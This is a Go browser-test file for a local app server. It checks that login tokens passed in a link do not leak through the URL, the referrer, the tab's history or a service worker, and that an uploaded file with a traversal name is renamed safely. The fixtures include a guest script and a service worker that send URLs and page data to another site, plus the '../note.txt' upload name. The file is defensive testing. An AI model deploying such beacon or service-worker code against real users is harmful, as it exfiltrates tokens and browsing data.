package serve_test

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	cdppage "github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"github.com/parselbox/parselbox/host"
	"github.com/parselbox/parselbox/host/serve"
	"github.com/parselbox/parselbox/internal/browsertest"
)

const page = `<!DOCTYPE html><html><head><title>app</title></head><body class="p-6">
<h1 id="title" class="text-3xl font-bold">VERSION</h1>
<button id="add" class="btn btn-primary" onclick="go()">2 + 3</button>
<span id="out" class="ml-4 text-xl"></span>
<script>
async function go() {
  const r = await pbx.call("add", {a: 2, b: 3});
  document.getElementById("out").textContent = r.sum;
}
</script></body></html>`

// A served page calls an @api route that calls a tool and shows the
// answer; an edit of the page reloads it; an upload lands in /files.
func TestServedAppInBrowser(t *testing.T) {
	t.Parallel()
	b := browsertest.New(t)
	sb := newServed(t, nil)
	base := sb.ServeURL()
	exec(t, sb, `
page = '''`+page+`'''
open("index.html", "w").write(page.replace("VERSION", "v1"))

@api.post("/add")
def add(body):
    return {"sum": calc.add(a=body["a"], b=body["b"])}
`)
	ctx, cancel := context.WithTimeout(b.Ctx, 90*time.Second)
	defer cancel()
	if err := chromedp.Do(ctx, chromedp.Navigate(base+"/")); err != nil {
		t.Fatal(err)
	}
	if err := chromedp.Do(ctx, chromedp.Click("#add")); err != nil {
		t.Fatal(err)
	}
	if _, err := chromedp.Run(ctx, chromedp.Poll[bool](`document.getElementById("out").textContent === "5"`,
		chromedp.WithPollingTimeout(20*time.Second))); err != nil {
		t.Fatalf("the page never showed the route's answer: %v", err)
	}
	// The served assets styled the page (Tailwind, daisyUI from the host).
	display, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`getComputedStyle(document.getElementById("add")).display`))
	size, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`getComputedStyle(document.getElementById("title")).fontSize`))
	if display != "inline-flex" || size != "30px" {
		t.Errorf("served page not styled: button display %q, h1 font-size %q", display, size)
	}
	b.Screenshot("served-api")

	// Edit the page: it reloads by itself.
	if _, err := chromedp.Run(ctx, chromedp.Poll[bool](`window.pbxLive && window.pbxLive.readyState === 1`,
		chromedp.WithPollingTimeout(20*time.Second))); err != nil {
		t.Fatalf("live reload never connected: %v", err)
	}
	chromedp.Do(ctx, chromedp.Evaluate[chromedp.Void](`window.beforeEdit = true`))
	exec(t, sb, `open("index.html", "w").write(page.replace("VERSION", "v2"))`)
	// (A poll does not survive the navigation: poll again after it.)
	var err error
	for range 20 {
		if _, err = chromedp.Run(ctx, chromedp.Poll[bool](`!window.beforeEdit && document.getElementById("title") && document.getElementById("title").textContent === "v2"`,
			chromedp.WithPollingTimeout(time.Second))); err == nil {
			break
		}
	}
	if err != nil {
		t.Fatalf("the page did not reload after the edit: %v", err)
	}
	b.Screenshot("served-reloaded")

	// Upload from the page: the file lands in /files, named safely.
	got, err := chromedp.Run(ctx, chromedp.Evaluate[string](`(async () => { const fd = new FormData();
		fd.append("file", new File(["hello upload"], "../note.txt"));
		const r = await fetch("/_upload", {method: "POST", body: fd}); return r.status + " " + await r.text(); })()`,
		chromedp.EvalAwaitPromise))
	if err != nil || got != `200 {"uploaded":[{"name":"note.txt","path":"/files/note.txt","size":12}]}`+"\n" {
		t.Errorf("upload from the page: %v %q", err, got)
	}
	r, err := sb.Execute(t.Context(), "open('/files/note.txt').read()")
	if err != nil || string(r.Output) != `"hello upload"` {
		t.Errorf("/files/note.txt: %v %s", err, r.Output)
	}
	if off := b.Offsite(); len(off) > 0 {
		t.Errorf("requests left the machine: %v", off)
	}
}

// The user opens the app's link with the token from a page of another
// site (a chat), in Chromium: the guest's page, from its first script on,
// finds no token in its URL, the navigation entry, the referrer or the
// tab's history, sends none anywhere, and works after (its @api route,
// a reload), with the cookie.
func TestServedAppTokenLeavesURL(t *testing.T) {
	t.Parallel()
	b := browsertest.New(t)
	const token = "0123456789abcdef-browser-token"
	sb := newServed(t, &host.ServeConfig{Addr: "0.0.0.0:0", Token: token})
	base := sb.ServeURL() // http://127.0.0.1:port; the chat is on localhost, another site
	var mu sync.Mutex
	var seen []string // what the chat's server got: the guest's report, Referers
	chat := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.URL.String()+" referer="+r.Referer())
		mu.Unlock()
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<!DOCTYPE html><p><a id="link" href="`+base+`/?token=`+token+`">your app</a></p>`)
	}))
	defer chat.Close()
	chatURL := strings.Replace(chat.URL, "127.0.0.1", "localhost", 1)
	exec(t, sb, `
open("index.html", "w").write('''<!DOCTYPE html><html><head><script>
window.seen = {href: location.href, url: document.URL, search: location.search, referrer: document.referrer,
  nav: performance.getEntriesByType("navigation").map(e => e.name).join(" ")};
new Image().src = "`+chatURL+`/report?d=" + encodeURIComponent(JSON.stringify(window.seen));
</script></head><body><h1 id="app">the app</h1></body></html>''')

@api.get("/ping")
def ping(params):
    return {"pong": calc.add(a=1, b=1)}
`)
	ctx, cancel := context.WithTimeout(b.Ctx, 90*time.Second)
	defer cancel()
	if err := chromedp.Do(ctx, chromedp.Navigate(chatURL+"/"), chromedp.Click("#link")); err != nil {
		t.Fatal(err)
	}
	const loaded = `!!(window.seen && document.getElementById("app"))`
	if err := waitFor(ctx, loaded, 30*time.Second); err != nil {
		href, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`location.href + " " + document.body.innerText`))
		t.Fatalf("the app's page never loaded from the link: %v (at %s)", err, href)
	}
	got, err := chromedp.Run(ctx, chromedp.Evaluate[string](`JSON.stringify(window.seen) + " now at " + location.href`))
	if err != nil || !strings.Contains(got, `"href":"`+base+`/"`) || strings.Contains(got, token) {
		t.Errorf("what the guest's page saw: %s (%v)", got, err)
	}
	hist, err := chromedp.Call(ctx, cdppage.GetNavigationHistory, cdp.Empty{})
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range hist.Entries {
		if strings.Contains(e.URL, token) {
			t.Errorf("the tab's history holds the token: %s", e.URL)
		}
	}
	// The app works after, with the cookie: its route, and a reload.
	pong, err := chromedp.Run(ctx, chromedp.Evaluate[string](`pbx.call("ping", undefined, {method: "GET"}).then(r => JSON.stringify(r))`,
		chromedp.EvalAwaitPromise))
	if err != nil || pong != `{"pong":2}` {
		t.Errorf("the page's @api call: %q %v", pong, err)
	}
	if err := chromedp.Do(ctx, chromedp.Reload()); err != nil {
		t.Fatal(err)
	}
	if err := waitFor(ctx, loaded, 30*time.Second); err != nil {
		body, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`document.body.innerText`))
		t.Errorf("the app after a reload: %v (%s)", err, body)
	}
	// What reached the other site: the guest's report of both loads (so
	// the guest's script did run), and no token in it or in a Referer.
	deadline := time.Now().Add(10 * time.Second)
	for {
		mu.Lock()
		reports := 0
		for _, s := range seen {
			if strings.HasPrefix(s, "/report") {
				reports++
			}
		}
		got := slices.Clone(seen)
		mu.Unlock()
		if reports >= 2 || time.Now().After(deadline) {
			if reports < 2 {
				t.Errorf("the guest's page reported %d loads to the other site: %v", reports, got)
			}
			for _, s := range got {
				if u, _ := url.QueryUnescape(s); strings.Contains(u, token) {
					t.Errorf("the token reached the other site: %s", u)
				}
			}
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	b.Screenshot("served-token-dropped")
	if off := b.Offsite(); len(off) > 0 {
		t.Errorf("requests left the machine: %v", off)
	}
}

// waitFor polls expr until it is true, across navigations (one poll does
// not survive the page it runs in).
func waitFor(ctx context.Context, expr string, d time.Duration) error {
	deadline := time.Now().Add(d)
	for {
		_, err := chromedp.Run(ctx, chromedp.Poll[bool](expr, chromedp.WithPollingTimeout(time.Second)))
		if err == nil || time.Now().After(deadline) {
			return err
		}
	}
}

// A service worker sees the URL of every navigation in its scope: one the
// guest's page registered on the first visit would read the token when
// the user opens the link again. With a token, the server refuses to
// serve one.
func TestServedAppServiceWorkerRefused(t *testing.T) {
	t.Parallel()
	b := browsertest.New(t)
	const token = "0123456789abcdef-worker-token"
	var mu sync.Mutex
	var seen []string
	var link string
	chat := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.URL.String())
		mu.Unlock()
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<!DOCTYPE html><p><a id="link" href="`+link+`">your app</a></p>`)
	}))
	defer chat.Close()
	chatURL := strings.Replace(chat.URL, "127.0.0.1", "localhost", 1)
	ws, files := t.TempDir(), t.TempDir()
	os.WriteFile(filepath.Join(ws, "index.html"), []byte(`<h1 id="app">the app</h1><script>
navigator.serviceWorker.register("/sw.js").then(() => document.title = "registered", e => document.title = "refused: " + e.message);
</script>`), 0o644)
	os.WriteFile(filepath.Join(ws, "sw.js"), []byte(`self.addEventListener("install", e => self.skipWaiting());
self.addEventListener("activate", e => e.waitUntil(clients.claim()));
self.addEventListener("fetch", e => { fetch("`+chatURL+`/report?u=" + encodeURIComponent(e.request.url), {mode: "no-cors"}); });`), 0o644)
	srv, err := serve.Listen(serve.Options{Addr: "0.0.0.0:0", Token: token, Workspace: ws, Files: files})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	link = srv.URL() + "/?token=" + token
	ctx, cancel := context.WithTimeout(b.Ctx, 60*time.Second)
	defer cancel()
	for visit := range 2 {
		if err := chromedp.Do(ctx, chromedp.Navigate(chatURL+"/"), chromedp.Click("#link")); err != nil {
			t.Fatal(err)
		}
		if err := waitFor(ctx, `document.getElementById("app") && document.title !== ""`, 20*time.Second); err != nil {
			t.Fatalf("visit %d: the app never loaded: %v", visit, err)
		}
		got, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`location.href + " " + document.title`))
		if !strings.HasPrefix(got, srv.URL()+"/ refused: ") {
			t.Errorf("visit %d: %s", visit, got)
		}
	}
	time.Sleep(500 * time.Millisecond) // a worker's report would be on its way
	mu.Lock()
	defer mu.Unlock()
	for _, s := range seen {
		if strings.HasPrefix(s, "/report") {
			t.Errorf("a service worker of the guest's reported %s", s)
		}
	}
}
